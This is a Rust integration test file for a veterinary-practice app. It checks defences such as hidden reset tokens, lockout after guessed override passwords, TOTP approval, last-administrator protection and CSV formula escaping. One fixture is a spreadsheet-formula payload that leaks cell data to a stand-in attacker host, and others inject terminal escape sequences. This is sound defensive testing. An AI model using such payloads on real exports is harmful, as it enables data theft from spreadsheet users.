//! What staff can read, what an unproved sign-up can reach, and the holes
//! an attacker (or an unlucky practice) would try: login links in the
//! outbox, a sign-up with someone else's email, guessing a manager's
//! password through overrides, formulas in exports, the last administrator.

use chrono::Duration;
use petbridge_domain::db::entities::delivery::DeliveryStatus;
use petbridge_domain::{db::entities::delivery, kernel::permissions::SecurityLevel};
use petbridge_tests::{PASSWORD, TestApp, at, hidden_field, spawn_app};
use reqwest::Method;
use serde_json::{Value, json};

/// Everything a staff member can read about deliveries: the API list and
/// each delivery, and the Outbox page.
async fn staff_visible_deliveries(app: &TestApp, token: &str, session: &str) -> String {
    let (status, list) = app.get_json("/api/dashboard/v1/deliveries?limit=200", token).await;
    assert_eq!(status, 200);
    let mut seen = list.to_string();
    for item in list["items"].as_array().unwrap() {
        let (status, one) =
            app.get_json(&format!("/api/dashboard/v1/deliveries/{}", item["id"].as_str().unwrap()), token).await;
        assert_eq!(status, 200);
        seen.push_str(&one.to_string());
    }
    let (status, page) = app.page(session, "/dashboard/outbox").await;
    assert_eq!(status, 200);
    seen.push_str(&page);
    seen
}

#[tokio::test]
async fn a_staff_member_finds_no_usable_token_after_a_reset_request_and_the_owner_link_works_once() {
    let app = spawn_app().await;
    let fixture = app.practice("maple-vets").await;
    app.staff(&fixture.practice, "frontdesk", SecurityLevel::Staff).await;
    app.verified_owner("maple-vets", "pat@example.com").await;

    // The reset request is public: anyone may ask for one.
    let body = json!({ "practice": "maple-vets", "email": "pat@example.com" });
    let (status, _) = app.app_call(Method::POST, "/auth/password-reset", None, Some(body)).await;
    assert_eq!(status, 202);
    let token = app.login("maple-vets", "frontdesk").await;
    let session = app.page_login("maple-vets", "frontdesk").await;

    // Before it is sent, and after: staff see the stand-in, never the link.
    let queued = staff_visible_deliveries(&app, &token, &session).await;
    let reset_token = app.emailed_token("pat@example.com", "reset_password").await;
    let verify_token = app.emailed_token("pat@example.com", "verify_email").await;
    let sent = staff_visible_deliveries(&app, &token, &session).await;
    for seen in [&queued, &sent] {
        assert!(!seen.contains(&reset_token) && !seen.contains(&verify_token), "a login link is visible to staff");
        assert!(!seen.contains("token="), "no link with its token");
        assert!(seen.contains("private link"), "the stand-in shows where the link was");
    }
    // Once delivered, the row keeps nothing of the secret.
    let rows = app.deliveries_to("pat@example.com").await;
    assert!(rows.iter().all(|d| d.secret.is_none() && d.status == delivery::DeliveryStatus::Sent), "{rows:?}");
    assert!(rows.iter().all(|d| !d.body.contains(&reset_token) && !d.data.to_string().contains(&reset_token)));
    assert_eq!(rows[0].secret.as_ref().map(|_| ()), None);

    // The owner's own copy works, once.
    let confirm = json!({ "token": reset_token, "password": "a brand new passphrase here" });
    let (status, body) = app.app_call(Method::POST, "/auth/password-reset/confirm", None, Some(confirm.clone())).await;
    assert_eq!(status, 204, "{body}");
    let (status, body) = app.app_call(Method::POST, "/auth/password-reset/confirm", None, Some(confirm)).await;
    assert_eq!((status, body["code"].as_str()), (422, Some("invalid_token")));
}

#[tokio::test]
async fn a_sealed_delivery_that_is_not_sent_yet_keeps_its_secret_for_the_worker_only() {
    let app = spawn_app().await;
    app.practice("maple-vets").await;
    app.sign_up("maple-vets", "pat@example.com").await;
    let rows = app.deliveries_to("pat@example.com").await;
    let queued = rows.iter().find(|d| d.data["template"] == "verify_email").unwrap();
    assert_eq!(queued.status, DeliveryStatus::Queued);
    assert!(queued.body.contains(delivery::SEALED) && !queued.body.contains("token="));
    assert!(!format!("{queued:?}").contains("token="), "the row's Debug hides the secret too");
    let link = queued.revealed().body.clone();
    assert!(link.contains("/app/verify-email?token="), "the worker's copy carries it: {link}");
}

#[tokio::test]
async fn an_unverified_sign_up_owns_nothing_of_the_pms_household_and_the_real_owner_still_signs_up() {
    let app = spawn_app().await;
    let fixture = app.practice("maple-vets").await;
    let key = app.sync_key(&fixture.practice).await;
    let admin = app.login("maple-vets", "admin").await;
    let household = json!({
        "clients": [{ "pms_id": "C1", "updated_at": at(app.clock_now(), 0), "first_name": "Rosa", "last_name": "Real", "email": "rosa@example.com", "last_transaction_on": app.clock_now().date_naive() }],
        "pets": [{ "pms_id": "P1", "updated_at": at(app.clock_now(), 0), "client_pms_id": "C1", "name": "Roxy", "species": "Dog" }],
    });
    assert_eq!(app.sync(&key, &household).await.0, 200);

    // Someone signs up with Rosa's address and never proves it.
    let intruder = app.sign_up("maple-vets", "rosa@example.com").await;
    let intruder = intruder["access_token"].as_str().unwrap().to_owned();
    let device = json!({ "token": "intruder-device", "platform": "android", "kind": "fcm_token" });
    assert_eq!(app.app_call(Method::POST, "/devices", Some(&intruder), Some(device)).await.0, 204);
    let (_, me) = app.app_call(Method::GET, "/me", Some(&intruder), None).await;
    assert_eq!((me["first_name"].as_str(), me["last_name"].as_str()), (Some("Pat"), Some("Owner")), "{me}");
    assert!(!me.to_string().contains("Rosa") && !me.to_string().contains("Roxy"));
    let (status, _) = app.app_call(Method::GET, "/pets", Some(&intruder), None).await;
    assert_eq!(status, 403);

    // The next sync does not hand it the household either.
    let later = json!({ "clients": [{ "pms_id": "C1", "updated_at": at(app.clock_now(), 1), "first_name": "Rosa", "last_name": "Real", "email": "rosa@example.com", "last_transaction_on": app.clock_now().date_naive() }] });
    assert_eq!(app.sync(&key, &later).await.0, 200);
    let (_, list) = app.get_json("/api/dashboard/v1/clients?search=rosa@example.com", &admin).await;
    let pms_row = list["items"].as_array().unwrap().iter().find(|r| r["first_name"] == "Rosa").unwrap().clone();
    assert_eq!(pms_row["account_status"], Value::Null, "the PMS household has no app account: {pms_row}");

    // A notification to Rosa's household reaches none of the intruder's devices.
    let notify = json!({ "title": "Roxy's results", "body": "All clear" });
    let path = format!("/clients/{}/notifications", pms_row["id"].as_str().unwrap());
    assert_eq!(app.staff_call(&admin, Method::POST, path, Some(notify)).await.0, 201);
    assert!(app.deliveries_to("intruder-device").await.is_empty(), "no household push to an unproved account");
    // The practice's general announcements still reach it.
    let blast = json!({ "title": "Closed Friday", "body": "For training" });
    let (status, _) = app.staff_call(&admin, Method::POST, "/campaigns/blasts", Some(blast)).await;
    assert!(status < 300, "{status}");
    app.run_jobs().await;
    assert_eq!(app.deliveries_to("intruder-device").await.len(), 1, "a blast is general");

    // Rosa signs up herself: the unproved account is retired, hers proves the address and joins.
    let rosa = app.sign_up("maple-vets", "rosa@example.com").await;
    let rosa = rosa["access_token"].as_str().unwrap().to_owned();
    assert_eq!(app.app_call(Method::GET, "/me", Some(&intruder), None).await.0, 401, "the intruder's login ended");
    app.verify_owner("rosa@example.com").await;
    let (status, pets) = app.app_call(Method::GET, "/pets", Some(&rosa), None).await;
    assert_eq!(status, 200, "{pets}");
    assert_eq!(pets[0]["name"], "Roxy");
    let (_, me) = app.app_call(Method::GET, "/me", Some(&rosa), None).await;
    assert_eq!(me["first_name"], "Rosa");
    let (_, retired) = app.get_json("/api/dashboard/v1/activity?action=owner.account_retired", &admin).await;
    assert_eq!(retired["items"].as_array().unwrap().len(), 1);

    // A verified account's address cannot be taken the same way.
    let body = json!({ "practice": "maple-vets", "email": "rosa@example.com", "password": PASSWORD, "first_name": "X", "last_name": "Y" });
    let (status, body) = app.app_call(Method::POST, "/auth/sign-up", None, Some(body)).await;
    assert_eq!((status, body["code"].as_str()), (409, Some("account_exists")));
}

async fn override_call(app: &TestApp, staff: &str, approver: &str, password: &str) -> (u16, Value) {
    let response = app
        .client
        .get(app.url("/api/dashboard/v1/reports/delivery-volumes"))
        .bearer_auth(staff)
        .header("x-override-username", approver)
        .header("x-override-password", password)
        .send()
        .await
        .unwrap();
    (response.status().as_u16(), response.json().await.unwrap_or(Value::Null))
}

async fn locked(app: &TestApp, admin: &str, user: &str) -> (bool, u64) {
    let (_, users) = app.get_json("/api/dashboard/v1/users", admin).await;
    let row = users.as_array().unwrap().iter().find(|u| u["username"] == user).unwrap().clone();
    (row["locked"].as_bool().unwrap(), row["failed_login_attempts"].as_u64().unwrap())
}

#[tokio::test]
async fn ten_wrong_override_passwords_lock_the_approver_as_ten_wrong_logins_would() {
    let app = spawn_app().await;
    let fixture = app.practice("maple-vets").await;
    app.staff(&fixture.practice, "frontdesk", SecurityLevel::Staff).await;
    app.staff(&fixture.practice, "manager", SecurityLevel::Manager).await;
    app.staff(&fixture.practice, "other", SecurityLevel::Manager).await;
    let admin = app.login("maple-vets", "admin").await;
    let settings = Some(json!({ "lockout_threshold": 10 }));
    assert_eq!(app.staff_call(&admin, Method::PATCH, "/practice/settings", settings).await.0, 200);
    let staff = app.login("maple-vets", "frontdesk").await;

    let mut answers = Vec::new();
    for n in 0..9 {
        answers.push(override_call(&app, &staff, "manager", &format!("wrong guess {n}")).await);
        assert_eq!(app.login_attempt("maple-vets", "other", &format!("wrong guess {n}")).await.0, 401);
    }
    answers.push(override_call(&app, &staff, "nobody", "wrong guess").await);
    for (status, body) in &answers {
        assert_eq!((*status, body["code"].as_str()), (403, Some("override_refused")));
    }
    assert_eq!(answers[0].1, answers[9].1, "an unknown approver gets the same answer");
    assert_eq!(locked(&app, &admin, "manager").await, (false, 9));
    assert_eq!(locked(&app, &admin, "other").await, (false, 9));

    // The tenth wrong try locks both alike: the right password no longer helps.
    assert_eq!(override_call(&app, &staff, "manager", "wrong guess 9").await.0, 403);
    assert_eq!(app.login_attempt("maple-vets", "other", "wrong guess 9").await.0, 401);
    assert_eq!(locked(&app, &admin, "manager").await, (true, 10));
    assert_eq!(locked(&app, &admin, "other").await, (true, 10));
    assert_eq!(override_call(&app, &staff, "manager", PASSWORD).await.1["code"], "override_refused");
    assert_eq!(app.login_attempt("maple-vets", "manager", PASSWORD).await.0, 401);
    let (_, refused) = app.get_json("/api/dashboard/v1/activity?action=auth.override_refused&limit=50", &admin).await;
    // Nine wrong, one unknown approver, the tenth wrong, the right password on the locked account.
    assert_eq!(refused["items"].as_array().unwrap().len(), 12);
    let refused = refused["items"].as_array().unwrap();
    assert!(refused.iter().all(|e| e["actor"] == "frontdesk"), "the log names who asked…");
    let tried_manager = refused.iter().filter(|e| e["detail"]["approver_username"] == "manager").count();
    assert_eq!(tried_manager, 11, "…and whose password was tried");
}

#[tokio::test]
async fn an_approver_with_a_second_factor_approves_only_with_a_code() {
    use totp_rs::{Builder, Secret};
    let app = spawn_app().await;
    let fixture = app.practice("maple-vets").await;
    app.staff(&fixture.practice, "frontdesk", SecurityLevel::Staff).await;
    app.staff(&fixture.practice, "manager", SecurityLevel::Manager).await;
    let manager = app.login("maple-vets", "manager").await;
    let (_, setup) = app.staff_call(&manager, Method::POST, "/me/two-factor", Some(json!({}))).await;
    let secret = setup["secret"].as_str().unwrap().to_owned();
    let code = |app: &TestApp| {
        let totp = Builder::new()
            .with_secret(Secret::try_from_base32(&secret).unwrap())
            .with_account_name("test")
            .build()
            .unwrap();
        totp.generate(u64::try_from(app.clock_now().timestamp()).unwrap()).to_string()
    };
    let confirm = Some(json!({ "code": code(&app) }));
    assert_eq!(app.staff_call(&manager, Method::POST, "/me/two-factor/confirm", confirm).await.0, 200);
    app.clock.advance(Duration::seconds(60));
    let staff = app.login("maple-vets", "frontdesk").await;

    let (status, body) = override_call(&app, &staff, "manager", PASSWORD).await;
    assert_eq!((status, body["code"].as_str()), (403, Some("override_refused")), "the password alone is not enough");
    let with_code = |code: String| {
        app.client
            .get(app.url("/api/dashboard/v1/reports/delivery-volumes"))
            .bearer_auth(&staff)
            .header("x-override-username", "manager")
            .header("x-override-password", PASSWORD)
            .header("x-override-code", code)
            .send()
    };
    assert_eq!(with_code("000000".into()).await.unwrap().status(), 403);
    let fresh = code(&app);
    assert_eq!(with_code(fresh.clone()).await.unwrap().status(), 200);
    assert_eq!(with_code(fresh).await.unwrap().status(), 403, "a code approves once");
}

#[tokio::test]
async fn only_administrators_see_activity_and_every_export_is_logged() {
    let app = spawn_app().await;
    let fixture = app.practice("maple-vets").await;
    app.staff(&fixture.practice, "frontdesk", SecurityLevel::Staff).await;
    app.staff(&fixture.practice, "manager", SecurityLevel::Manager).await;
    for (user, sees) in [("frontdesk", false), ("manager", false), ("admin", true)] {
        let session = app.page_login("maple-vets", user).await;
        let home = app.page(&session, "/dashboard").await.1;
        assert_eq!(home.contains("Recent activity"), sees, "{user}'s Home page");
        assert_eq!(home.contains("auth.login"), sees, "{user}'s Home page lists no entries");
        let token = app.login("maple-vets", user).await;
        assert_eq!(app.get_json("/api/dashboard/v1/activity", &token).await.0, if sees { 200 } else { 403 });
    }

    let admin = app.login("maple-vets", "admin").await;
    let users =
        app.client.get(app.url("/api/dashboard/v1/clients/export.csv")).bearer_auth(&admin).send().await.unwrap();
    assert_eq!(users.status(), 200);
    let log = app.client.get(app.url("/api/dashboard/v1/activity/export")).bearer_auth(&admin).send().await.unwrap();
    assert_eq!(log.status(), 200);
    assert!(log.text().await.unwrap().contains("export.activity_log"), "the export is in the file it writes");
    let (_, entries) = app.get_json("/api/dashboard/v1/activity?action=export.", &admin).await;
    let mut actions: Vec<&str> =
        entries["items"].as_array().unwrap().iter().map(|e| e["action"].as_str().unwrap()).collect();
    actions.sort_unstable();
    assert_eq!(actions, ["export.activity_log", "export.users"]);
    assert!(entries["items"].as_array().unwrap().iter().all(|e| e["actor"] == "admin"));
}

#[tokio::test]
async fn a_client_named_like_a_formula_round_trips_the_users_export_as_text() {
    let app = spawn_app().await;
    let fixture = app.practice("maple-vets").await;
    let key = app.sync_key(&fixture.practice).await;
    let formula = r#"=HYPERLINK("http://attacker.example/?leak="&A2,"Click")"#;
    let batch = json!({ "clients": [
        { "pms_id": "F1", "updated_at": at(app.clock_now(), 0), "first_name": "@SUM(1+1)", "last_name": formula, "email": "f@example.com", "phone": "+15555550100", "last_transaction_on": app.clock_now().date_naive() }
    ] });
    assert_eq!(app.sync(&key, &batch).await.0, 200);
    let admin = app.login("maple-vets", "admin").await;
    let csv = app
        .client
        .get(app.url("/api/dashboard/v1/clients/export.csv"))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[column("Last name")], format!("'{formula}"), "a formula opens as text");
    assert_eq!(&row[column("First name")], "'@SUM(1+1)");
    assert_eq!(&row[column("Phone")], "'+15555550100", "a leading + is a formula too");
    assert_eq!(&row[column("Email")], "f@example.com", "plain cells are untouched");
}

#[tokio::test]
async fn the_practice_always_keeps_an_unlocked_administrator() {
    let app = spawn_app().await;
    let fixture = app.practice("maple-vets").await;
    let admin = app.login("maple-vets", "admin").await;
    let (_, me) = app.get_json("/api/dashboard/v1/me", &admin).await;
    let admin_id = me["staff"]["id"].as_str().unwrap().to_owned();
    let demote = Some(json!({ "level": "manager" }));
    let (status, body) = app.staff_call(&admin, Method::PATCH, format!("/users/{admin_id}"), demote.clone()).await;
    assert_eq!((status, body["code"].as_str()), (409, Some("last_administrator")));

    // The Staff page offers no way to do it either.
    let session = app.page_login("maple-vets", "admin").await;
    let page = app.page(&session, "/dashboard/users").await.1;
    assert!(page.contains("the only administrator"), "{page}");
    assert!(!page.contains(&format!("/users/{admin_id}/lock")));
    let csrf = hidden_field(&page, "csrf");
    let forged = json!({ "display_name": "Admin", "email": "", "level": "staff" });
    let (status, body) = app.page_api(&session, &csrf, Method::PATCH, &format!("/users/{admin_id}"), forged).await;
    assert_eq!((status, body["code"].as_str()), (409, Some("last_administrator")), "a forged form is refused");

    // With a second administrator, one may step down; the last one left may not, nor be locked or deleted.
    let second = app.staff(&fixture.practice, "second", SecurityLevel::Administrator).await;
    let (status, _) = app.staff_call(&admin, Method::PATCH, format!("/users/{admin_id}"), demote.clone()).await;
    assert_eq!(status, 200);
    let manager = app.login("maple-vets", "admin").await;
    let second_token = app.login("maple-vets", "second").await;
    for (method, path, body) in [
        (Method::PATCH, format!("/users/{second}"), demote.clone()),
        (Method::POST, format!("/users/{second}/lock"), None),
        (Method::DELETE, format!("/users/{second}"), None),
    ] {
        let (status, body) = app.staff_call(&second_token, method.clone(), path.clone(), body).await;
        assert!(
            status == 409
                && ["last_administrator", "cannot_lock_yourself", "cannot_delete_yourself"]
                    .contains(&body["code"].as_str().unwrap()),
            "{method} {path}: {status} {body}"
        );
    }
    assert_eq!(
        app.staff_call(&manager, Method::GET, "/users", None).await.0,
        403,
        "the demoted admin is a manager now"
    );
    let (status, body) = app.staff_call(&second_token, Method::PATCH, format!("/users/{second}"), demote).await;
    assert_eq!((status, body["code"].as_str()), (409, Some("last_administrator")));
}

fn one_client(app: &TestApp) -> Value {
    json!({ "clients": [{ "pms_id": "C1", "updated_at": at(app.clock_now(), 0), "first_name": "Cleo", "last_name": "Client", "last_transaction_on": app.clock_now().date_naive() }] })
}

#[tokio::test]
async fn opening_the_chat_page_for_a_client_creates_nothing() {
    use petbridge_domain::db::entities::conversation;
    use sea_orm::{EntityTrait, PaginatorTrait};
    let app = spawn_app().await;
    let fixture = app.practice("maple-vets").await;
    let key = app.sync_key(&fixture.practice).await;
    assert_eq!(app.sync(&key, &one_client(&app)).await.0, 200);
    let admin = app.login("maple-vets", "admin").await;
    let (_, list) = app.get_json("/api/dashboard/v1/clients", &admin).await;
    let client_id = list["items"][0]["id"].as_str().unwrap().to_owned();
    let session = app.page_login("maple-vets", "admin").await;
    let opened = app
        .client
        .get(app.url(&format!("/dashboard/chat?client={client_id}")))
        .header("cookie", format!("pb_session={session}"))
        .send()
        .await
        .unwrap();
    assert_eq!(opened.status(), 303);
    assert_eq!(opened.headers()["location"], format!("/dashboard/clients/{client_id}#contact").as_str());
    assert_eq!(conversation::Entity::find().count(&app.platform.db).await.unwrap(), 0, "a GET made a conversation");
}

#[tokio::test]
async fn a_rotated_sync_key_works_and_the_old_one_stops_from_the_same_moment() {
    let app = spawn_app().await;
    let fixture = app.practice("maple-vets").await;
    let key = app.sync_key(&fixture.practice).await;
    let batch = one_client(&app);
    let admin = app.login("maple-vets", "admin").await;
    let (_, keys) = app.get_json("/api/dashboard/v1/sync/keys", &admin).await;
    let id = keys[0]["id"].as_str().unwrap().to_owned();
    let (status, rotated) = app.staff_post(&admin, &format!("/sync/keys/{id}/rotate"), None).await;
    assert_eq!(status, 201, "{rotated}");
    assert_eq!(app.sync(&key, &batch).await.0, 401);
    assert_eq!(app.sync(rotated["secret"].as_str().unwrap(), &batch).await.0, 200);
    let (_, keys) = app.get_json("/api/dashboard/v1/sync/keys", &admin).await;
    let live = keys.as_array().unwrap().iter().filter(|k| k["revoked_at"].is_null()).count();
    assert_eq!(live, 1);
}

#[tokio::test]
async fn two_refreshes_at_once_keep_the_owner_signed_in_and_a_late_reuse_still_ends_the_login() {
    let app = spawn_app().await;
    app.practice("maple-vets").await;
    let tokens = app.sign_up("maple-vets", "pat@example.com").await;
    let refresh = tokens["refresh_token"].as_str().unwrap().to_owned();
    let call = || app.app_call(Method::POST, "/auth/refresh", None, Some(json!({ "refresh_token": refresh.clone() })));
    let (first, second) = tokio::join!(call(), call());
    assert_eq!((first.0, second.0), (200, 200), "{first:?} {second:?}");
    assert_eq!(first.1["access_token"], second.1["access_token"], "the same new pair");
    assert_eq!(first.1["refresh_token"], second.1["refresh_token"]);
    let access = first.1["access_token"].as_str().unwrap().to_owned();
    assert_eq!(app.app_call(Method::GET, "/me", Some(&access), None).await.0, 200);

    // Past the grace window, the old token means a leak: the login ends.
    app.clock.advance(Duration::seconds(11));
    let (status, body) = call().await;
    assert_eq!((status, body["code"].as_str()), (401, Some("refresh_token_reused")));
    assert_eq!(app.app_call(Method::GET, "/me", Some(&access), None).await.0, 401);
}

#[tokio::test]
async fn development_providers_on_a_real_deployment_say_so_on_every_page() {
    let database = std::sync::Arc::new(petbridge_tests::TestDatabase::create().await);
    let mut settings = petbridge_tests::test_settings(&database).await;
    settings.server.public_url = "https://vets.example.com".into();
    let app = petbridge_tests::spawn_with(settings, database).await;
    app.practice("maple-vets").await;
    let session = app.page_login("maple-vets", "admin").await;
    for page in ["/dashboard", "/dashboard/clients", "/dashboard/outbox"] {
        let html = app.page(&session, page).await.1;
        assert!(
            html.contains("data-testid=\"dev-providers\"") && html.contains("nothing on those channels is really sent"),
            "{page}"
        );
    }
    // The embedded demo (SQLite on this machine) stays quiet.
    if std::env::var("TEST_DATABASE_URL").is_err() {
        let quiet = spawn_app().await;
        quiet.practice("maple-vets").await;
        let session = quiet.page_login("maple-vets", "admin").await;
        let html = quiet.page(&session, "/dashboard").await.1;
        assert!(!html.contains("dev-providers"));
    }
}

#[tokio::test]
async fn a_number_or_boolean_where_text_belongs_is_a_400_and_control_characters_a_422_naming_the_field() {
    let app = spawn_app().await;
    let fixture = app.practice("maple-vets").await;
    let sign_up = |email: Value, first: Value| json!({ "practice": "maple-vets", "email": email, "password": PASSWORD, "first_name": first, "last_name": "Owner" });
    for (email, first, field) in
        [(json!(true), json!("Pat"), "email"), (json!("pat@example.com"), json!(42), "first_name")]
    {
        let (status, body) = app.app_call(Method::POST, "/auth/sign-up", None, Some(sign_up(email, first))).await;
        assert_eq!((status, body["code"].as_str()), (400, Some("invalid_type")), "{body}");
        assert!(body["detail"].as_str().unwrap().contains(&format!("`{field}`")), "{body}");
    }
    let (status, body) = app
        .app_call(Method::POST, "/auth/sign-up", None, Some(sign_up(json!("pat@example.com"), json!("Pat\u{0}"))))
        .await;
    assert_eq!((status, body["code"].as_str()), (422, Some("control_characters")), "{body}");
    assert!(body["detail"].as_str().unwrap().contains("`first_name`"));
    let zalgo: String = std::iter::once('P').chain(std::iter::repeat_n('\u{0337}', 30)).collect();
    let (status, body) =
        app.app_call(Method::POST, "/auth/sign-up", None, Some(sign_up(json!("pat@example.com"), json!(zalgo)))).await;
    assert_eq!((status, body["code"].as_str()), (422, Some("stacked_marks")), "{body}");
    assert!(app.deliveries_to("pat@example.com").await.is_empty(), "nothing half-written");

    // Nested fields are named by their path; staff input is held to the same rules.
    let key = app.sync_key(&fixture.practice).await;
    let batch = json!({ "clients": [{ "pms_id": 7, "updated_at": at(app.clock_now(), 0), "last_name": "Seven" }] });
    let (status, body) = app.sync(&key, &batch).await;
    assert_eq!((status, body["code"].as_str()), (400, Some("invalid_type")), "{body}");
    assert!(body["detail"].as_str().unwrap().contains("`clients[0].pms_id`"), "{body}");
    let admin = app.login("maple-vets", "admin").await;
    let blast = Some(json!({ "title": "Hi\u{1b}[2J", "body": "Closed Friday" }));
    let (status, body) = app.staff_call(&admin, Method::POST, "/campaigns/blasts", blast).await;
    assert_eq!((status, body["code"].as_str()), (422, Some("control_characters")), "{body}");
}

#[tokio::test]
async fn a_chat_message_with_control_characters_is_refused_on_the_socket_and_nothing_is_stored() {
    use petbridge_domain::db::entities::message;
    use sea_orm::{EntityTrait, PaginatorTrait};
    let app = spawn_app().await;
    app.practice("maple-vets").await;
    let owner = app.verified_owner("maple-vets", "pat@example.com").await;
    let mut socket = app.app_socket(&owner).await;
    socket.next_of("hello").await;
    socket.send_json(&json!({ "type": "send", "client_message_id": "m-1", "body": "hello\u{0}\u{1b}[2J" })).await;
    let refused = socket.next_of("error").await;
    assert_eq!(
        (refused["code"].as_str(), refused["client_message_id"].as_str()),
        (Some("control_characters"), Some("m-1"))
    );
    assert_eq!(message::Entity::find().count(&app.platform.db).await.unwrap(), 0);
    socket.send_json(&json!({ "type": "send", "client_message_id": "m-2", "body": "two lines\nare fine" })).await;
    assert_eq!(socket.next_of("ack").await["message"]["body"], "two lines\nare fine");
}

#[tokio::test]
async fn two_administrators_demoting_each_other_at_once_leave_one_administrator() {
    let app = spawn_app().await;
    let fixture = app.practice("maple-vets").await;
    let second = app.staff(&fixture.practice, "second", SecurityLevel::Administrator).await;
    let first = app.login("maple-vets", "admin").await;
    let (_, me) = app.get_json("/api/dashboard/v1/me", &first).await;
    let admin_id = me["staff"]["id"].as_str().unwrap().to_owned();
    let second_token = app.login("maple-vets", "second").await;
    let demote = || Some(json!({ "level": "manager" }));
    let (a, b) = tokio::join!(
        app.staff_call(&first, Method::PATCH, format!("/users/{second}"), demote()),
        app.staff_call(&second_token, Method::PATCH, format!("/users/{admin_id}"), demote()),
    );
    // The one taken second is refused: 409 when both checks overlap, or 403
    // when the first had already made its caller a manager.
    let mut statuses = [a.0, b.0];
    statuses.sort_unstable();
    assert!(statuses == [200, 409] || statuses == [200, 403], "{a:?} {b:?}");
    let (_, users) = app.get_json("/api/dashboard/v1/users", if a.0 == 200 { &first } else { &second_token }).await;
    let admins = users.as_array().unwrap().iter().filter(|u| u["level"] == "administrator").count();
    assert_eq!(admins, 1);
}

#[tokio::test]
async fn the_apps_reads_of_its_conversation_make_nothing_until_the_first_message() {
    use petbridge_domain::db::entities::conversation;
    use sea_orm::{EntityTrait, PaginatorTrait};
    let app = spawn_app().await;
    app.practice("maple-vets").await;
    let owner = app.verified_owner("maple-vets", "pat@example.com").await;
    // Verification makes the household's conversation; for a household
    // without one (accounts verified before that), reads make none either.
    conversation::Entity::delete_many().exec(&app.platform.db).await.unwrap();
    let (status, read) = app.app_call(Method::GET, "/conversation", Some(&owner), None).await;
    assert_eq!((status, read["last_seq"].as_i64()), (200, Some(0)), "{read}");
    let (status, page) = app.app_call(Method::GET, "/conversation/messages", Some(&owner), None).await;
    assert_eq!((status, page["items"].as_array().map(Vec::len)), (200, Some(0)));
    let mut socket = app.app_socket(&owner).await;
    let hello = socket.next_of("hello").await;
    assert_eq!(hello["conversation_id"], read["id"]);
    assert_eq!(conversation::Entity::find().count(&app.platform.db).await.unwrap(), 0, "a read made a conversation");

    // The first message makes it, under the id the reads named.
    socket.send_json(&json!({ "type": "send", "client_message_id": "m-1", "body": "Hello!" })).await;
    let ack = socket.next_of("ack").await;
    assert_eq!(ack["message"]["conversation_id"], read["id"], "{ack}");
    let (_, after) = app.app_call(Method::GET, "/conversation", Some(&owner), None).await;
    assert_eq!((after["id"].clone(), after["last_seq"].as_i64()), (read["id"].clone(), Some(1)));
}
